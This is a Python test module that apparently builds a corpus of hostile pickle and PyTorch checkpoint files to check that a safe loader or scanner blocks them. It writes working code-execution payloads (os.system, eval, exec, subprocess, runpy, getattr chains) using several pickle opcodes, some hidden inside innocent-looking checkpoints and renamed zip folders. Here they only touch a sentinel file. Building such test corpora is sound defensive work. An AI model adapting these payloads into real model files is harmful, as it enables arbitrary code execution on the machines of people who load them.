"""A corpus of hostile pickles, built at test time, each of which creates a sentinel file when
unpickled without restriction (the positive control proves every payload is live).

Payloads reach code execution through ``os.system``, ``posix.system``, ``eval``, ``exec``,
``subprocess.Popen``, ``runpy``, ``builtins.getattr``/``__import__`` chains, ``functools.partial``
and ``torch.storage._load_from_bytes`` (a nested ``torch.load``); they are written with GLOBAL,
STACK_GLOBAL, INST and OBJ opcodes, as plain pickles, nested in checkpoint dicts, inside torch
zip archives (default and renamed top folder) and in the legacy torch format.
"""

from __future__ import annotations

import io
import os
import pickle
import zipfile
from collections.abc import Callable

import torch


def _v(text: str) -> bytes:
    """Protocol-0 UNICODE argument line."""
    return b"V" + text.encode("raw-unicode-escape") + b"\n"


def call_global(module: str, name: str, *args: str) -> bytes:
    """``module.name(*args)`` as a protocol-0 pickle using GLOBAL + REDUCE."""
    return b"c%s\n%s\n(" % (module.encode(), name.encode()) + b"".join(map(_v, args)) + b"tR."


def inst_call(module: str, name: str, *args: str) -> bytes:
    """``module.name(*args)`` using the INST opcode (no REDUCE)."""
    return b"(" + b"".join(map(_v, args)) + b"i%s\n%s\n." % (module.encode(), name.encode())


def stack_global_call(module: str, name: str, arg: str) -> bytes:
    """``module.name(arg)`` with protocol 4 STACK_GLOBAL, MEMOIZE and framing."""
    body = (
        pickle.SHORT_BINUNICODE + bytes([len(module)]) + module.encode() + pickle.MEMOIZE
        + pickle.SHORT_BINUNICODE + bytes([len(name)]) + name.encode() + pickle.MEMOIZE
        + pickle.STACK_GLOBAL + pickle.MEMOIZE
        + pickle.BINUNICODE + len(arg.encode()).to_bytes(4, "little") + arg.encode()
        + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP
    )  # fmt: skip
    return pickle.PROTO + b"\x04" + body


def obj_call(module: str, name: str, arg: str) -> bytes:
    """``module.name(arg)`` with the OBJ opcode (protocol 1)."""
    return b"(c%s\n%s\n" % (module.encode(), name.encode()) + _v(arg) + b"o."


def getattr_chain(module: str, attr: str, arg: str) -> bytes:
    """``getattr(__import__(module), attr)(arg)``: only builtins named in GLOBAL opcodes."""
    imported = b"cbuiltins\n__import__\n(" + _v(module) + b"tR"
    func = b"cbuiltins\ngetattr\n(" + imported + _v(attr) + b"tR"
    return func + b"(" + _v(arg) + b"tR."


class Reduce:
    """An object that pickles as ``func(*args)``."""

    def __init__(self, func: Callable, *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple:
        return self.func, self.args


def payloads(sentinel: str, workdir: str) -> dict[str, bytes]:
    """Raw pickles, each creating ``sentinel`` when unpickled unrestricted."""
    touch = f"touch {sentinel}"
    py = f"open({sentinel!r}, 'w').close()"
    script = os.path.join(workdir, "payload_script.py")
    with open(script, "w") as handle:
        handle.write(py + "\n")
    import functools
    import subprocess

    inner = call_global("os", "system", touch)
    return {
        "os_system": call_global("os", "system", touch),
        "posix_system": call_global("posix", "system", touch),
        "eval": call_global("builtins", "eval", py),
        "exec": call_global("builtins", "exec", py),
        "compile_exec": b"cbuiltins\nexec\n(cbuiltins\ncompile\n("
        + _v(py)
        + _v("x")
        + _v("exec")
        + b"tRtR.",  # fmt: skip
        "popen": b"csubprocess\nPopen\n((" + _v("touch") + _v(sentinel) + b"ltR.",
        "runpy_run_path": call_global("runpy", "run_path", script),
        "getattr_chain": getattr_chain("os", "system", touch),
        "inst_opcode": inst_call("os", "system", touch),
        "obj_opcode": obj_call("os", "system", touch),
        "stack_global_p4": stack_global_call("os", "system", touch),
        "reduce_p2": pickle.dumps(Reduce(os.system, touch), protocol=2),
        "reduce_p5": pickle.dumps(Reduce(subprocess.call, ["touch", sentinel]), protocol=5),
        "partial": pickle.dumps(Reduce(functools.partial(os.system, touch)), protocol=3),
        "nested_load": b"ctorch.storage\n_load_from_bytes\n(C"
        + bytes([len(inner)])
        + inner
        + b"tR.",  # fmt: skip
    }


def _zip_with_pickle(pkl: bytes, folder: str) -> bytes:
    """A torch zip archive (real tensor records) whose data.pkl is ``pkl``, under ``folder``."""
    buf = io.BytesIO()
    torch.save({"w": torch.ones(3)}, buf)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            name = folder + "/" + info.filename.split("/", 1)[1]
            data = pkl if name.endswith("/data.pkl") else src.read(info)
            dst.writestr(name, data)
    return out.getvalue()


def checkpoint_files(sentinel: str, workdir: str) -> dict[str, bytes]:
    """Hostile torch.save files: payloads nested in checkpoint dicts, zip and legacy formats."""
    touch = f"touch {sentinel}"
    evil = {
        "state_dict": {"weight": torch.ones(4, 4), "bias": torch.zeros(4)},
        "epoch": 3,
        "extra": [1, {"hook": Reduce(os.system, touch)}],
    }
    files = {}
    buf = io.BytesIO()
    torch.save(evil, buf)
    files["torch_zip_nested"] = buf.getvalue()
    renamed = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for info in renamed.infolist():
            dst.writestr("innocent_name/" + info.filename.split("/", 1)[1], renamed.read(info))
    files["torch_zip_renamed_folder"] = out.getvalue()
    buf = io.BytesIO()
    torch.save(evil, buf, _use_new_zipfile_serialization=False)
    files["torch_legacy_nested"] = buf.getvalue()
    raw = payloads(sentinel, workdir)
    files["torch_zip_getattr_chain"] = _zip_with_pickle(raw["getattr_chain"], "archive")
    files["torch_zip_renamed_exec"] = _zip_with_pickle(raw["exec"], "x")
    return files


def write_corpus(directory: str, sentinel: str) -> dict[str, str]:
    """Write every hostile file into ``directory``; returns name -> path."""
    os.makedirs(directory, exist_ok=True)
    blobs = {f"plain_{k}.pkl": v for k, v in payloads(sentinel, directory).items()}
    blobs.update({f"{k}.pt": v for k, v in checkpoint_files(sentinel, directory).items()})
    paths = {}
    for name, blob in blobs.items():
        path = os.path.join(directory, name)
        with open(path, "wb") as handle:
            handle.write(blob)
        paths[name] = path
    return paths
